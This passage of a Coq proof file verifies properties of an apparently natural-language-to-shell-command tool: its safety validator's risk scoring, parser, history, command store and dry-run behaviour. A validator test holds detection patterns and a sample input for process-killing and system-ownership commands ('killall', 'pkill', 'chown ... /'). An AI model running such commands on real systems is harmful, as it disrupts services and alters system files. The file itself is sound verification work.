  validate v command = Some a -> validate v' command = Some a' ->
  score a <= score a'.
Proof. apply validate_monotone_in_rules. Qed.

Lemma more_rules_never_lower_score_witness :
  exists a a',
    validate (mkValidator (tail three_medium_rules) system_paths_literal
                          destructive_commands_literal)
             "killall pkill chown a:b /srv" = Some a
    /\ validate three_medium_validator "killall pkill chown a:b /srv" = Some a'
    /\ score a <= score a'.
Proof.
  exists (mkRiskAssessment "high" 60
            ["Killing processes by name"; "Killing processes by pattern"]
            ["killall\s+"; "pkill\s+"]).
  exists (mkRiskAssessment "critical" 90
            ["Changing ownership of system files";
             "Killing processes by name"; "Killing processes by pattern"]
            ["chown\s+.*:.*\s+/"; "killall\s+"; "pkill\s+"]).
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  apply (more_rules_never_lower_score
           (mkValidator (tail three_medium_rules) system_paths_literal
                        destructive_commands_literal)
           three_medium_validator "killall pkill chown a:b /srv").
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - cbn. apply sublist_cons. reflexivity.
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

End SafetyMore.

(* ===================================================================== *)
(** * Further properties of [src/core/parser.py] *)
(* ===================================================================== *)

Section ParserMore.
Import Parser ParserSpec.

Lemma rstrip_idempotent s : PyStr.rstrip (PyStr.rstrip s) = PyStr.rstrip s.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [PyStr.rstrip].
  destruct (PyStr.rstrip s) as [|d t] eqn:Hr.
  - destruct (PyStr.is_space c) eqn:Hc; [reflexivity|].
    cbn [PyStr.rstrip]. rewrite Hc. reflexivity.
  - cbn [PyStr.rstrip]. cbn [PyStr.rstrip] in IH. rewrite IH. reflexivity.
Qed.

Lemma rstrip_keeps_head c t :
  PyStr.is_space c = false ->
  exists u, PyStr.rstrip (String c t) = String c u.
Proof.
  intros Hc. cbn [PyStr.rstrip]. destruct (PyStr.rstrip t); rewrite ?Hc; eauto.
Qed.

Lemma lstrip_shape s :
  PyStr.lstrip s = EmptyString
  \/ exists c t, PyStr.lstrip s = String c t /\ PyStr.is_space c = false.
Proof.
  induction s as [|c s IH]; [left; reflexivity|]. cbn [PyStr.lstrip].
  destruct (PyStr.is_space c) eqn:Hc; [exact IH|]. right. eauto.
Qed.

(** Stripping twice is stripping once. *)
Lemma strip_idempotent s : PyStr.strip (PyStr.strip s) = PyStr.strip s.
Proof.
  unfold PyStr.strip. destruct (lstrip_shape s) as [H | (c & t & H & Hc)];
    rewrite H; [reflexivity|].
  destruct (rstrip_keeps_head c t Hc) as (u & Hu). rewrite Hu.
  cbn [PyStr.lstrip]. rewrite Hc, <- Hu. apply rstrip_idempotent.
Qed.

Lemma lstrip_chars s x :
  In x (PyStr.chars (PyStr.lstrip s)) -> In x (PyStr.chars s).
Proof.
  induction s as [|c s IH]; cbn [PyStr.lstrip]; [auto|].
  destruct (PyStr.is_space c); [|auto]. intros H. right. apply IH. exact H.
Qed.

Lemma rstrip_chars s x :
  In x (PyStr.chars (PyStr.rstrip s)) -> In x (PyStr.chars s).
Proof.
  induction s as [|c s IH]; cbn [PyStr.rstrip]; [auto|].
  destruct (PyStr.rstrip s) as [|d t].
  - destruct (PyStr.is_space c); cbn; [intros []|]. intros [H|[]]. left. exact H.
  - intros [H|H]; [left; exact H|]. right. apply IH. exact H.
Qed.

Lemma strip_chars s x :
  In x (PyStr.chars (PyStr.strip s)) -> In x (PyStr.chars s).
Proof. intros H. apply lstrip_chars, rstrip_chars. exact H. Qed.

(** No field of [split('\n')] holds a newline. *)
Lemma split_lines_no_newline s line :
  In line (PyStr.split_lines s) -> ~ In "010"%char (PyStr.chars line).
Proof.
  revert line. induction s as [|c s IH]; intros line; cbn [PyStr.split_lines].
  - intros [<-|[]] [].
  - destruct (Ascii.eqb_spec c "010"%char) as [->|Hc].
    + intros [<-|H]; [intros [] | apply IH; exact H].
    + destruct (PyStr.split_lines s) as [|l ls].
      * intros [<-|[]] [H|[]]. congruence.
      * intros [<-|H].
        -- intros [Hx|Hx]; [congruence|]. apply (IH l); [left; reflexivity | exact Hx].
        -- apply IH. right. exact H.
Qed.

(** X10.  The command the fallback extracts is fit to be shown and run
    as one line: it is not empty, has no white space at either end,
    holds no newline, and starts with neither [#] nor [//]. *)
Theorem fallback_command_shape (response query : string) (r : ParseResult) :
  _fallback_parse response query = Some r ->
  command r <> EmptyString
  /\ PyStr.strip (command r) = command r
  /\ ~ In "010"%char (PyStr.chars (command r))
  /\ PyStr.startswith (command r) "#" = false
  /\ PyStr.startswith (command r) "//" = false.
Proof.
  unfold _fallback_parse.
  destruct (first_command_line _) as [cmd|] eqn:Hf; [|discriminate].
  intros H. injection H as <-. cbn [command].
  apply first_command_line_Some in Hf
    as (pre & line & post & Hl & _ & Hline & ->).
  unfold command_line in Hline. cbv zeta in Hline.
  apply andb_true_iff in Hline as [Hline Hsl].
  apply andb_true_iff in Hline as [Hne Hhash].
  apply negb_true_iff in Hhash, Hsl.
  split; [|split; [|split; [|split]]].
  - intros He. rewrite He in Hne. discriminate.
  - apply strip_idempotent.
  - intros Hx. apply strip_chars in Hx.
    apply (split_lines_no_newline (PyStr.strip response) line); [|exact Hx].
    rewrite Hl. apply in_or_app. right. left. reflexivity.
  - exact Hhash.
  - exact Hsl.
Qed.

Lemma fallback_command_shape_witness :
  exists r,
    _fallback_parse "# list the files
   ls -la   
// done" "list files" = Some r
    /\ command r = "ls -la"
    /\ PyStr.strip (command r) = command r.
Proof.
  eexists. split; [reflexivity|]. split; [reflexivity|].
  destruct (fallback_command_shape "# list the files
   ls -la   
// done" "list files" _ eq_refl) as (_ & Hstrip & _).
  exact Hstrip.
Defined.

End ParserMore.

(* ===================================================================== *)
(** * Further properties of [src/core/context.py] *)
(* ===================================================================== *)

Section ContextMore.
Import Context ContextOps.

(** X11.  While the bound is at least 1 and respected, [add_interaction]
    keeps it respected: below the bound the entry is appended, at the
    bound the oldest entry is dropped to make room. *)
Theorem add_interaction_evicts_oldest
    (cm : ContextManager) (query command : string) (now : Z) (executed : bool) :
  1 <= max_history cm ->
  Z.of_nat (length (history cm)) <= max_history cm ->
  let cm' := add_interaction cm query command now executed in
  let item := mkHistoryItem query command now executed in
  history cm' =
    (if (Z.of_nat (length (history cm)) <? max_history cm)%Z
     then history cm ++ [item]
     else tail (history cm) ++ [item])
  /\ Z.of_nat (length (history cm')) <= max_history cm'.
Proof.
  intros Hmax Hlen. cbv zeta.
  destruct (Z.ltb_spec (Z.of_nat (length (history cm))) (max_history cm))
    as [Hlt|Hge].
  - rewrite (add_interaction_append cm query command now executed Hlt).
    split; [reflexivity|]. rewrite length_app. cbn. lia.
  - unfold add_interaction. cbn [history max_history].
    assert (Hfull : Z.of_nat (length (history cm)) = max_history cm) by lia.
    destruct (Z.gtb_spec
                (Z.of_nat (length (history cm
                                   ++ [mkHistoryItem query command now executed])))
                (max_history cm)) as [_|Hle];
      [|rewrite length_app in Hle; cbn in Hle; lia].
    unfold last_slice. rewrite length_app. cbn [length].
    destruct (Z.ltb_spec (- max_history cm) 0) as [_|Hneg]; [|lia].
    replace (Z.to_nat (Z.max (Z.of_nat (length (history cm) + 1)
                              - max_history cm) 0)) with 1%nat by lia.
    destruct (history cm) as [|h l] eqn:Hh; [cbn in Hfull; lia|].
    split; [reflexivity|].
    change (drop 1 ((h :: l) ++ [mkHistoryItem query command now executed]))
      with (l ++ [mkHistoryItem query command now executed]).
    rewrite length_app. cbn [length] in *. lia.
Qed.

Lemma add_interaction_evicts_oldest_witness :
  history (add_interaction
             (mkContextManager 2
                [mkHistoryItem "q1" "c1" 1 true; mkHistoryItem "q2" "c2" 2 false])
             "q3" "c3" 3 true)
  = [mkHistoryItem "q2" "c2" 2 false; mkHistoryItem "q3" "c3" 3 true].
Proof.
  destruct (add_interaction_evicts_oldest
              (mkContextManager 2
                 [mkHistoryItem "q1" "c1" 1 true;
                  mkHistoryItem "q2" "c2" 2 false])
              "q3" "c3" 3 true) as [Hh _].
  - cbn. lia.
  - cbn. lia.
  - exact Hh.
Defined.

(** X12.  A bound of 0 is no bound: the slice [history[-0:]] is the
    whole list, so [add_interaction] only ever appends. *)
Theorem add_interaction_zero_bound
    (cm : ContextManager) (query command : string) (now : Z) (executed : bool) :
  max_history cm = 0 ->
  history (add_interaction cm query command now executed)
  = history cm ++ [mkHistoryItem query command now executed].
Proof.
  intros H0. unfold add_interaction. cbn [history]. rewrite H0.
  destruct (_ >? 0)%Z; [|reflexivity].
  unfold last_slice. cbn [Z.opp Z.ltb Z.compare]. rewrite Z.min_l by lia.
  reflexivity.
Qed.

Lemma add_interaction_zero_bound_witness :
  history (add_interaction
             (mkContextManager 0 [mkHistoryItem "q1" "c1" 1 true])
             "q2" "c2" 2 false)
  = [mkHistoryItem "q1" "c1" 1 true; mkHistoryItem "q2" "c2" 2 false].
Proof.
  apply (add_interaction_zero_bound
           (mkContextManager 0 [mkHistoryItem "q1" "c1" 1 true])).
  reflexivity.
Defined.

Lemma rev_drop {A} (l : list A) k :
  rev (drop k l) = take (length l - k) (rev l).
Proof.
  revert k. induction l as [|x l IH]; intros k; [destruct k; reflexivity|].
  destruct k as [|k]; cbn [drop length rev].
  - rewrite Nat.sub_0_r.
    rewrite <- (length_rev (x :: l)) at 1. cbn [rev]. apply eq_sym, firstn_all.
  - rewrite IH. cbn [Nat.sub].
    rewrite take_app_le by (rewrite length_rev; lia). reflexivity.
Qed.

(** [get_history] returns the entries newest first: with a positive
    limit the [limit] newest ones, with a limit of 0 or less all of
    them. *)
Lemma get_history_newest_first (cm : ContextManager) (limit : Z) :
  get_history cm limit =
    if (0 <? limit)%Z then take (Z.to_nat limit) (rev (history cm))
    else rev (history cm).
Proof.
  unfold get_history. rewrite Z.gtb_ltb.
  destruct (Z.ltb_spec 0 limit) as [Hpos|Hle]; [|reflexivity].
  unfold last_slice. destruct (Z.ltb_spec (- limit) 0) as [_|H]; [|lia].
  rewrite rev_drop.
  destruct (Z.le_ge_cases (Z.of_nat (length (history cm))) limit) as [Hs|Hl].
  - rewrite Z.max_r by lia. cbn [Z.to_nat]. rewrite Nat.sub_0_r.
    rewrite <- (length_rev (history cm)) at 1.
    rewrite firstn_all. symmetry. apply take_ge. rewrite length_rev. lia.
  - rewrite Z.max_l by lia. f_equal. lia.
Qed.

(** X13.  What [add_interaction] has just recorded is what
    [get_history(1)] returns, for any bound that is not negative. *)
Theorem get_history_after_add
    (cm : ContextManager) (query command : string) (now : Z) (executed : bool) :
  0 <= max_history cm ->
  get_history (add_interaction cm query command now executed) 1
  = [mkHistoryItem query command now executed].
Proof.
  intros Hmax.
  pose proof (add_interaction_last cm query command now executed Hmax) as Hlast.
  rewrite get_history_newest_first. cbn [Z.ltb Z.compare Z.to_nat Pos.to_nat
                                          Pos.iter_op Nat.add].
  destruct (history (add_interaction cm query command now executed))
    as [|h l] eqn:Hh using rev_ind; [discriminate|].
  rewrite last_snoc in Hlast. injection Hlast as ->.
  rewrite rev_app_distr. reflexivity.
Qed.

Lemma get_history_after_add_witness :
  get_history (add_interaction Context.new "list files" "ls -la" 7 false) 1
  = [mkHistoryItem "list files" "ls -la" 7 false].
Proof.
  apply (get_history_after_add Context.new). cbn. lia.
Defined.

Lemma contains_empty s : PyStr.contains s EmptyString = true.
Proof. destruct s; reflexivity. Qed.

(** X14.  [search_history] with an empty query returns the whole
    history; with any query it returns entries of the history in their
    order, and it does not matter in which letter case the query is
    written. *)
Theorem search_history_edges (cm : ContextManager) (query : string) :
  search_history cm EmptyString = history cm
  /\ sublist (search_history cm query) (history cm)
  /\ search_history cm (PyText.lower query) = search_history cm query.
Proof.
  unfold search_history. split; [|split].
  - cbn [PyText.lower]. induction (history cm) as [|item l IH]; [reflexivity|].
    cbn [List.filter]. rewrite contains_empty. cbn [orb]. rewrite IH. reflexivity.
  - induction (history cm) as [|item l IH]; cbn [List.filter]; [constructor|].
    destruct (_ || _); [apply sublist_skip | apply sublist_cons]; exact IH.
  - assert (Hl : PyText.lower (PyText.lower query) = PyText.lower query).
    { induction query as [|c q IH]; cbn [PyText.lower]; [reflexivity|].
      rewrite lower_idempotent, IH. reflexivity. }
    rewrite Hl. reflexivity.
Qed.

(** X15.  What [export_session] returns cannot be fed back to
    [import_session] once the history has an entry: the exported
    timestamps are [datetime] objects, [fromisoformat] raises on them,
    and the manager keeps the history it had.  Only with an empty
    history does the round trip succeed, giving back the same manager. *)
Theorem import_of_export
    (fromisoformat : string -> option Z) (m : Manager) :
  import_session fromisoformat m (export_session m) =
    match history (core m) with
    | [] => Done m
    | _ :: _ => Raised m
    end.
Proof.
  unfold import_session, export_session. cbn [sd_context sd_history].
  assert (Hu : current_session m ∪ current_session m = current_session m)
    by apply (idemp_L (∪)).
  rewrite Hu. destruct m as [cs [mx h]]. cbn [current_session core history
                                               max_history].
  destruct h as [|item h]; reflexivity.
Qed.

End ContextMore.

(* ===================================================================== *)
(** * Further properties of [src/storage/command_store.py] *)
(* ===================================================================== *)

Section StoreMore.
Import Store StoreOps.

Lemma or_else_empty s : PyStr.or_else s EmptyString = s.
Proof. destruct s; reflexivity. Qed.

(** X16.  A record read back with [get_command] under the id
    [store_command] returned has the values that were stored, the id the
    next after the counter, and ["low"] for an empty risk level. *)
Theorem store_then_get
    (db : CommandStore) (command query explanation risk_level : string)
    (executed success : bool) (output : string) (now : Z) :
  let '(db', id) :=
    store_command db command query explanation risk_level
                  executed success output now in
  id = sequence db + 1
  /\ sequence db' = id
  /\ get_command db' id =
     Some (mkStoredCommand id command query explanation
             (PyStr.or_else risk_level "low") now executed success output).
Proof.
  unfold store_command, get_command. cbn [commands sequence].
  split; [reflexivity|]. split; [reflexivity|].
  rewrite lookup_insert_eq.
  cbn [Store.command Store.query Store.explanation Store.risk_level
       Store.timestamp Store.executed Store.success Store.output].
  rewrite !or_else_empty. reflexivity.
Qed.

Lemma ids_bounded_empty : ids_bounded Store.empty.
Proof. unfold ids_bounded. cbn. apply map_Forall_empty. Qed.

(** X17.  In a store whose ids all come from the counter, the id
    [store_command] hands out is new: it is above every id in the table,
    no record is overwritten, every record already there is read back
    unchanged, and the ids of the new store again all come from the
    counter. *)
Theorem store_command_fresh_id
    (db : CommandStore) (command query explanation risk_level : string)
    (executed success : bool) (output : string) (now : Z) :
  ids_bounded db ->
  let '(db', id) :=
    store_command db command query explanation risk_level
                  executed success output now in
  commands db !! id = None
  /\ (forall id' row, commands db !! id' = Some row ->
        (id' < id)%Z /\ commands db' !! id' = Some row)
  /\ ids_bounded db'.
Proof.
  intros Hb. unfold store_command. cbn [commands sequence].
  assert (Hfresh : commands db !! (sequence db + 1) = None).
  { destruct (commands db !! (sequence db + 1)) as [row|] eqn:Hl; [|reflexivity].
    apply Hb in Hl. lia. }
  split; [exact Hfresh|]. split.
  - intros id' row Hrow. pose proof (Hb id' row Hrow) as Hle. cbn in Hle.
    split; [lia|]. rewrite lookup_insert_ne by lia. exact Hrow.
  - unfold ids_bounded. cbn [commands sequence].
    apply map_Forall_insert_2; [lia|].
    intros id' row Hrow. pose proof (Hb id' row Hrow) as Hle. cbn in Hle |- *. lia.
Qed.

Lemma store_command_fresh_id_witness :
  commands sample_store !! 2 = None
  /\ snd (store_command sample_store "df -h" "disk space" "" "low"
            false false "" 1700000100) = 2.
Proof.
  pose proof (store_command_fresh_id sample_store "df -h" "disk space" ""
                "low" false false "" 1700000100) as H.
  cbn beta iota delta [store_command] in H.
  destruct H as (Hfresh & _).
  - unfold ids_bounded. apply (bool_decide_unpack (map_Forall _ _)). vm_compute. exact I.
  - split; [exact Hfresh | reflexivity].
Defined.

Lemma ids_bounded_clear db older now :
  ids_bounded db -> ids_bounded (clear_history db older now).
Proof.
  intros Hb. unfold clear_history, ids_bounded.
  destruct older as [days|]; [|cbn; apply map_Forall_empty].
  destruct (days =? 0)%Z; [cbn; apply map_Forall_empty|].
  destruct (days <? 0)%Z; [exact Hb|]. cbn [commands sequence].
  intros id row Hrow. apply map_lookup_filter_Some in Hrow as [Hrow _].
  exact (Hb id row Hrow).
Qed.

Lemma clear_history_sequence db older now :
  sequence (clear_history db older now) = sequence db.
Proof.
  unfold clear_history. destruct older as [days|]; [|reflexivity].
  destruct (days =? 0)%Z; [reflexivity|]. destruct (days <? 0)%Z; reflexivity.
Qed.

(** X18.  Ids are not reused after records were deleted: whatever
    [clear_history] removed, the next [store_command] returns an id above
    every id the store held before. *)
Theorem ids_never_reused
    (db : CommandStore) (older : option Z) (now : Z)
    (command query explanation risk_level : string)
    (executed success : bool) (output : string) (now' : Z) (id : Z) (row : Row) :
  ids_bounded db ->
  commands db !! id = Some row ->
  (id < snd (store_command (clear_history db older now) command query
               explanation risk_level executed success output now'))%Z.
Proof.
  intros Hb Hrow. unfold store_command. cbn [snd].
  rewrite clear_history_sequence. pose proof (Hb id row Hrow) as Hle.
  cbn in Hle. lia.
Qed.

Lemma ids_never_reused_witness :
  commands (clear_history sample_store None 1700000200) = ∅
  /\ snd (store_command (clear_history sample_store None 1700000200)
            "df -h" "disk space" "" "low" false false "" 1700000300) = 2.
Proof.
  split; [reflexivity|].
  pose proof (ids_never_reused sample_store None 1700000200
                "df -h" "disk space" "" "low" false false "" 1700000300 1
                (mkRow "ls -la" "list files" "List all files and directories"
                       "low" 1700000000 false false "")) as H.
  assert (Hlt : (1 < snd (store_command (clear_history sample_store None
                                           1700000200)
                            "df -h" "disk space" "" "low" false false ""
                            1700000300))%Z).
  { apply H; [|reflexivity].
    unfold ids_bounded. apply (bool_decide_unpack (map_Forall _ _)). vm_compute. exact I. }
  reflexivity.
Defined.



(** X20.  [clear_history] without an argument, or with 0 days, empties
    the table; with a positive number of days it keeps exactly the
    records not older than that; with a negative number it deletes
    nothing.  It never touches the id counter. *)
Theorem clear_history_cases (db : CommandStore) (now : Z) :
  commands (clear_history db None now) = ∅
  /\ commands (clear_history db (Some 0) now) = ∅
  /\ (forall days id row, (0 < days)%Z ->
        commands (clear_history db (Some days) now) !! id = Some row <->
        commands db !! id = Some row /\ (now - days * 86400 <= timestamp row)%Z)
  /\ (forall days, (days < 0)%Z -> clear_history db (Some days) now = db)
  /\ (forall older, sequence (clear_history db older now) = sequence db).
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [|split].
  - intros days id row Hpos. unfold clear_history.
    destruct (Z.eqb_spec days 0); [lia|].
    destruct (Z.ltb_spec days 0); [lia|]. cbn [commands].
    rewrite map_lookup_filter_Some. reflexivity.
  - intros days Hneg. unfold clear_history.
    destruct (Z.eqb_spec days 0); [lia|].
    destruct (Z.ltb_spec days 0); [reflexivity | lia].
  - intros older. apply clear_history_sequence.
Qed.

Lemma clear_history_cases_witness :
  commands (clear_history sample_store (Some 30) 1700000000 ) !! 1
  = commands sample_store !! 1.
Proof.
  destruct (clear_history_cases sample_store 1700000000)
    as (_ & _ & Hkeep & _).
  apply (Hkeep 30 1 (mkRow "ls -la" "list files"
                           "List all files and directories" "low"
                           1700000000 false false "")); [lia|].
  split; [reflexivity | cbn; lia].
Defined.

End StoreMore.

Section StatisticsFacts.
Import Store StoreOps.

Lemma rows_length db : length (rows db) = size (commands db).
Proof. unfold rows. rewrite length_map. apply length_map_to_list. Qed.

Lemma count_if_range p l : 0 <= count_if p l <= Z.of_nat (length l).
Proof.
  unfold count_if. pose proof (List.filter_length_le p l). lia.
Qed.

Lemma size_list_to_set_le (l : list Z) :
  (size (list_to_set l : gset Z) <= length l)%nat.
Proof.
  induction l as [|x l IH]; cbn [list_to_set length].
  - rewrite size_empty. lia.
  - rewrite size_union_alt, size_singleton.
    assert (Hsub : list_to_set l ∖ {[x]} ⊆ (list_to_set l : gset Z))
      by apply subseteq_difference_l, reflexivity.
    apply subseteq_size in Hsub. lia.
Qed.

Lemma group_by_risk_count l level :
  default 0 (group_by_risk l !! level)
  = count_if (fun r => String.eqb (risk_level r) level) l.
Proof.
  unfold count_if. induction l as [|r l IH]; [reflexivity|].
  cbn [group_by_risk List.filter].
  destruct (String.eqb_spec (risk_level r) level) as [->|Hne].
  - rewrite lookup_insert_eq. cbn [default from_option id length].
    rewrite IH. lia.
  - rewrite lookup_insert_ne by exact Hne. exact IH.
Qed.

Lemma group_by_risk_positive l level n :
  group_by_risk l !! level = Some n -> 0 < n.
Proof.
  revert n. induction l as [|r l IH]; intros n; cbn [group_by_risk].
  - rewrite lookup_empty. discriminate.
  - destruct (decide (risk_level r = level)) as [->|Hne].
    + rewrite lookup_insert_eq. intros H. injection H as <-.
      destruct (group_by_risk l !! level) as [k|] eqn:Hk; cbn.
      * specialize (IH k eq_refl). lia.
      * lia.
    + rewrite lookup_insert_ne by exact Hne. apply IH.
Qed.

(** X21.  The counts of [get_statistics] are consistent: the total is
    the number of records; executed, successful and active days are each
    between 0 and the total; the risk distribution holds, for each level
    that occurs, the number of records at that level, and no level with
    count 0.  On an empty store both rates are 0. *)
Theorem statistics_counts (db : CommandStore) :
  let s := get_statistics db in
  total_commands s = Z.of_nat (size (commands db))
  /\ 0 <= executed_commands s <= total_commands s
  /\ 0 <= successful_commands s <= total_commands s
  /\ 0 <= active_days s <= total_commands s
  /\ (forall level,
        default 0 (risk_distribution s !! level)
        = count_if (fun r => String.eqb (risk_level r) level) (rows db))
  /\ (forall level n, risk_distribution s !! level = Some n -> 0 < n)
  /\ (commands db = ∅ ->
      execution_rate s = 0 # 1 /\ success_rate s = 0 # 1).
Proof.
  cbv zeta. unfold get_statistics.
  cbn [total_commands executed_commands successful_commands active_days
       risk_distribution execution_rate success_rate].
  split; [rewrite rows_length; reflexivity|].
  split; [apply count_if_range|]. split; [apply count_if_range|].
  split.
  { pose proof (size_list_to_set_le (map (fun r => timestamp r / day) (rows db)))
      as H. rewrite length_map in H. lia. }
  split; [intros level; apply group_by_risk_count|].
  split; [intros level n; apply group_by_risk_positive|].
  intros He. unfold rows. rewrite He, map_to_list_empty. split; reflexivity.
Qed.

Lemma statistics_counts_witness :
  execution_rate (get_statistics Store.empty) = 0 # 1
  /\ total_commands (get_statistics sample_store) = 1.
Proof.
  destruct (statistics_counts Store.empty) as (_ & _ & _ & _ & _ & _ & Hr).
  destruct (statistics_counts sample_store) as (Ht & _).
  split; [apply Hr; reflexivity | rewrite Ht; reflexivity].
Defined.

End StatisticsFacts.

(* ===================================================================== *)
(** * Further properties of [ask] in [src/main.py] *)
(* ===================================================================== *)

Section MainMore.
Import Main.

(** Every way [ask] can go, by cases on what it is given. *)
Ltac logic_cases args w result ra :=
  unfold execution_logic;
  pose proof (execute_command_runs (console w) (Parser.command result) (run w))
    as (Hran & Hranp & Hranq);
  destruct (_execute_command (console w) (Parser.command result) (run w))
    as [ran [err|[|]]] eqn:Hexecuted;
  cbn [fst snd] in Hran, Hranp, Hranq; unfold runs, prompts, put in *;
  destruct (dry_run args) eqn:?, (execute args) eqn:?,
    (confirm_execute w) as [[|]|?] eqn:?,
    (String.eqb (Safety.risk_level ra) "critical") eqn:?,
    (confirm_critical w) as [[|]|?] eqn:?;
  cbn -[Store.store_command Context.add_to_history Context.add_interaction];
  rewrite ?app_nil_r, ?Hran, ?Hranp, ?Hranq.

Ltac ask_cases app args w :=
  unfold final, trace, status;
  destruct (console w (processing args)) as [e0|] eqn:Hprocessing;
  [ rewrite (ask_processing_raised _ _ _ _ Hprocessing)
  | destruct (parsed w) as [result|] eqn:Hparsed;
    [ destruct (display_cases app args w result)
        as [(ra & Hvalid & Hshown & Hdisplay)|(e & Hdisplay & Hnot)];
      [ unfold ask; rewrite Hprocessing, Hparsed, Hdisplay, bind_pure;
        logic_cases args w result ra
      | rewrite (ask_display_raised _ _ _ _ _ Hprocessing Hparsed Hdisplay) ]
    | rewrite (ask_no_command _ _ _ Hprocessing Hparsed) ] ];
  cbn [fst snd].

(** X22.  A dry run is inert: whatever the other flag, whatever the
    console does and whatever would be answered, no prompt is put,
    nothing is run and the command store is left as it was. *)
Theorem dry_run_is_inert (app : App) (args : Args) (w : World) :
  dry_run args = true ->
  prompts (trace (ask app args w)) = []
  /\ runs (trace (ask app args w)) = []
  /\ command_store (final (ask app args w)) = command_store app
  /\ put (trace (ask app args w)) = [].
Proof.
  intros Hd. unfold ask, final, trace, status.
  destruct (console w (processing args)); [auto|].
  destruct (parsed w) as [result|]; [|auto].
  destruct (display_cases app args w result)
    as [(ra & _ & _ & ->)|(e & -> & _)]; [|auto].
  rewrite bind_pure. unfold execution_logic. rewrite Hd. auto.
Qed.

Lemma dry_run_is_inert_witness :
  runs (trace (ask initial_app
                 (mkArgs "delete everything" true true true true)
                 force_world)) = [].
Proof.
  destruct (dry_run_is_inert initial_app
              (mkArgs "delete everything" true true true true) force_world)
    as (_ & Hr & _).
  - reflexivity.
  - exact Hr.
Defined.

(** What [ask] leaves in the command store, in every case. *)
Lemma ask_store_cases app args w :
  command_store (final (ask app args w)) = command_store app
  \/ exists result ra out err,
       parsed w = Some result
       /\ Safety.validate (safety_validator app) (Parser.command result) = Some ra
       /\ run w = Completed 0 out err
       /\ runs (trace (ask app args w)) = [(Parser.command result, 30)]
       /\ command_store (final (ask app args w))
          = fst (Store.store_command (command_store app)
                   (Parser.command result) (query args)
                   (Parser.explanation result) (Safety.risk_level ra)
                   false false "" (now_store w)).
Proof.
  ask_cases app args w; try (left; reflexivity).
  all: right.
  all: destruct (proj1 (execute_command_success (console w)
                          (Parser.command result) (run w)))
         as (out & err & Hrun & _); [rewrite Hexecuted; reflexivity|].
  all: exists result, ra, out, err.
  all: repeat split; assumption || reflexivity.
Qed.

(** X23.  [ask] writes a record only for a command that ran and
    returned 0; the record then carries the command, the query, the
    explanation and the assessed level, and is marked neither executed
    nor successful, with empty output.  In every other case the command
    store is left as it was. *)
Theorem ask_record_written (app : App) (args : Args) (w : World) :
  command_store (final (ask app args w)) = command_store app
  \/ exists result ra out err,
       parsed w = Some result
       /\ Safety.validate (safety_validator app) (Parser.command result) = Some ra
       /\ run w = Completed 0 out err
       /\ runs (trace (ask app args w)) = [(Parser.command result, 30)]
       /\ command_store (final (ask app args w))
          = fst (Store.store_command (command_store app)
                   (Parser.command result) (query args)
                   (Parser.explanation result) (Safety.risk_level ra)
                   false false "" (now_store w)).
Proof. apply ask_store_cases. Qed.



(** X25.  Whenever [ask] does not return, because it raises
    [typer.Exit] or because an exception leaves it, the application is
    as it was: nothing was stored and the history got no entry, even if
    the command has run by then.  The only exit code is 1.  With no
    command generated [ask] never returns, and it puts no prompt and runs
    nothing.  [ask] never changes the validator. *)
Theorem ask_exit_leaves_state (app : App) (args : Args) (w : World) :
  (status (ask app args w) <> Returned -> final (ask app args w) = app)
  /\ (forall code, status (ask app args w) = Exited code -> code = 1)
  /\ (parsed w = None ->
      status (ask app args w) <> Returned
      /\ put (trace (ask app args w)) = []
      /\ runs (trace (ask app args w)) = [])
  /\ safety_validator (final (ask app args w)) = safety_validator app.
Proof.
  split; [|split; [|split]].
  - ask_cases app args w; intros Hs; congruence.
  - intros code. ask_cases app args w; intros Hs;
      repeat match type of Hs with
             | context [console w ?s] => destruct (console w s)
             end; congruence.
  - intros Hnone. unfold ask, status, trace. rewrite Hnone.
    destruct (console w (processing args)); cbn; repeat split; discriminate.
  - ask_cases app args w; reflexivity.
Qed.

Lemma ask_exit_leaves_state_witness :
  runs (trace (ask initial_app echo_args echo_world)) = [("echo '[/b]'", 30)]
  /\ final (ask initial_app echo_args echo_world) = initial_app.
Proof.
  split; [reflexivity|].
  destruct (ask_exit_leaves_state initial_app echo_args echo_world)
    as (Hleave & _).
  apply Hleave. intros Hs. vm_compute in Hs. discriminate.
Defined.

(** X26.  [ask] starts at most one shell command, and that is the
    generated command, with a timeout of 30 seconds; it puts at most two
    prompts, those left unanswered counted. *)
Theorem ask_runs_only_generated (app : App) (args : Args) (w : World) :
  (runs (trace (ask app args w)) = []
   \/ exists result,
        parsed w = Some result
        /\ runs (trace (ask app args w)) = [(Parser.command result, 30)])
  /\ (length (prompts (trace (ask app args w))) <= 2)%nat
  /\ (length (put (trace (ask app args w))) <= 2)%nat.
Proof.
  split; [|split].
  - ask_cases app args w; try (left; reflexivity);
      right; exists result; split; reflexivity.
  - ask_cases app args w; cbn; lia.
  - ask_cases app args w; cbn; lia.
Qed.

End MainMore.

Section PipelineStatistics.
Import Main Store StoreOps.

Lemma never_marked_store db command query explanation risk_level output now :
  never_marked db ->
  never_marked (fst (store_command db command query explanation risk_level
                       false false output now)).
Proof.
  intros Hn. unfold never_marked, store_command. cbn [fst commands].
  apply map_Forall_insert_2; [split; reflexivity | exact Hn].
Qed.

Lemma ask_keeps_never_marked app args w :
  never_marked (command_store app) ->
  never_marked (command_store (final (ask app args w))).
Proof.
  intros Hn.
  destruct (ask_store_cases app args w)
    as [-> | (result & ra & out & err & _ & _ & _ & _ & ->)];
    [exact Hn | apply never_marked_store; exact Hn].
Qed.

Lemma ask_all_keeps_never_marked calls :
  forall app,
  never_marked (command_store app) ->
  never_marked (command_store (ask_all app calls)).
Proof.
  induction calls as [|[args w] calls IH]; intros app Hn; cbn [ask_all].
  - exact Hn.
  - apply IH, ask_keeps_never_marked, Hn.
Qed.

Lemma never_marked_counts db :
  never_marked db ->
  count_if executed (rows db) = 0 /\ count_if success (rows db) = 0.
Proof.
  intros Hn. unfold never_marked in Hn.
  apply map_Forall_to_list in Hn. unfold rows, count_if.
  induction Hn as [|[id row] l [He Hs] _ IH]; [split; reflexivity|].
  cbn [map snd List.filter] in *. cbn in He, Hs. rewrite He, Hs. exact IH.
Qed.

(** X27.  No series of [ask] calls ever leaves a record marked executed
    or successful in a store that held none: [ask] stores every record
    with both marks false and never updates one.  The statistics of such
    a store therefore count 0 executed and 0 successful commands, however
    many commands were run. *)
Theorem ask_never_marks_executed
